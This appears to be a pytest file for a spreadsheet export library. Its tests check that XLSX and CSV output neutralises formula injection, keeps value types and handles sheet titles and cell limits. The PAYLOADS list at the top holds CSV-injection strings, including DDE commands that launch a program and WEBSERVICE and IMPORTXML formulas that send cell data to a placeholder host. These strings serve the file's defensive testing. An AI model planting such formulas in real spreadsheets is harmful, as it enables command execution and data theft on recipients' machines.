import io
from datetime import datetime, time
from decimal import Decimal

import openpyxl
import pytest

from partybranch import spreadsheets
from partybranch.spreadsheets import (
    CellTooLong,
    Table,
    check_workbook,
    read_workbook,
    write_csv,
    write_workbook,
)

LIMIT = 10 * 1024 * 1024


PAYLOADS = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://x/","点这里")',
    '=WEBSERVICE("http://x/"&A1)',
    '=IMPORTXML(CONCAT("http://x/",A1),"//a")',
    "+1+1",
    "+cmd|'/C calc'!A0",
    "-1+1",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)",
    "@cmd",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u3000=1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    '=DDE("cmd";"/C calc";"x")',
    "{=1+1}",
    '="a"&"b"',
    "'=1+1",
    "%0A=1+1",
    "=1+1;=2+2",
    "-",
    "=",
]


def written(*tables):
    stream = io.BytesIO()
    write_workbook(stream, tables)
    check_workbook(stream.getvalue(), max_bytes=LIMIT)
    return openpyxl.load_workbook(io.BytesIO(stream.getvalue()))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_leaves_as_text_and_unchanged(payload):
    sheet = written(Table("表", ["列", payload], [[payload, "别的"]])).active
    for cell in (sheet["A2"], sheet["B1"]):
        assert cell.data_type == "s"
        assert cell.value == payload
    if spreadsheets.writing.could_be_formula(payload):
        assert sheet["A2"].quotePrefix
    assert not sheet["B2"].quotePrefix


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_text_written_to_csv_gets_an_apostrophe_where_it_could_be_a_formula(payload):
    stream = io.BytesIO()
    write_csv(stream, Table("表", ["列"], [[payload]]))
    text = stream.getvalue().decode("utf-8-sig")
    safe = payload[0] in "{'%"
    assert text == f"列\r\n{_quoted(payload if safe else chr(39) + payload)}\r\n"


def _quoted(text):
    return '"' + text.replace('"', '""') + '"' if any(mark in text for mark in ',"\r\n') else text


def test_values_keep_their_types():
    row = [
        "范平",
        28,
        1.5,
        Decimal("46.51"),
        datetime(2025, 1, 8, 9, 30).date(),
        True,
        None,
        "",
        999999199508178248,
    ]
    sheet = written(Table("表", list("甲乙丙丁戊己庚辛壬"), [row])).active
    values = [cell.value for cell in sheet[2]]
    assert values[:3] == ["范平", 28, 1.5]
    assert values[3] == 46.51
    assert sheet["D2"].number_format == "0.00"
    assert values[4] == datetime(2025, 1, 8)
    assert sheet["E2"].number_format == "yyyy-mm-dd"
    assert values[5:] == ["是", None, None, "999999199508178248"]


def test_what_is_exported_can_be_imported(tmp_path):
    row = ["\r换行", "_x000D_", "19900000000", "甲 乙", Decimal("0.10")]
    path = tmp_path / "表.xlsx"
    write_workbook(path, [Table("表", list("甲乙丙丁戊"), [row])])
    (sheet,) = read_workbook(path, max_rows=10).sheets
    assert sheet.rows[1][1] == ("\r换行", "_x000D_", "19900000000", "甲 乙", 0.1)


def test_a_number_format_and_widths():
    sheet = written(
        Table("表", ["金额", "名称"], [[5, "甲"]], widths=[20], number_formats={0: "#,##0"})
    ).active
    assert sheet["A2"].number_format == "#,##0"
    assert sheet.column_dimensions["A"].width == 20
    assert sheet.column_dimensions["B"].width >= 8
    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].font.bold


def test_control_characters_are_removed():
    sheet = written(Table("表", ["列"], [["a\x00b\x0bc\ud800d\uffff\x1f"]])).active
    assert sheet["A2"].value == "abcd"


def test_text_too_long_for_a_cell_is_an_error_and_not_cut(tmp_path):
    write_workbook(tmp_path / "表.xlsx", [Table("表", ["列"], [["长" * 32_767]])])
    with pytest.raises(CellTooLong, match="32767"):
        write_workbook(io.BytesIO(), [Table("表", ["列"], [["长" * 32_768]])])
    with pytest.raises(CellTooLong):
        write_csv(io.BytesIO(), Table("表", ["列"], [["长" * 32_768]]))


def test_a_value_no_cell_can_hold():
    for write in (
        lambda table: write_workbook(io.BytesIO(), [table]),
        lambda table: write_csv(io.BytesIO(), table),
    ):
        with pytest.raises(TypeError):
            write(Table("表", ["列"], [[["a list"]]]))


def test_titles_of_sheets_are_made_to_fit_and_to_differ():
    book = written(
        *(Table(title, ["列"], []) for title in ["第1/2页", "第1/2页", "长" * 40, "长" * 40, "", "[]"])
    )
    assert book.sheetnames == ["第1 2页", "第1 2页（2）", "长" * 31, "长" * 28 + "（2）", "表", "表（2）"]


def test_csv_values(tmp_path):
    table = Table(
        "表",
        ["甲", "乙", "丙", "丁"],
        [["a,b", Decimal("-5.00"), datetime(2025, 1, 8).date(), None], [True, 1, "", time(9)]],
    )
    write_csv(tmp_path / "表.csv", table)
    data = (tmp_path / "表.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.decode("utf-8-sig") == '甲,乙,丙,丁\r\n"a,b",-5.00,2025-01-08,\r\n是,1,,09:00\r\n'
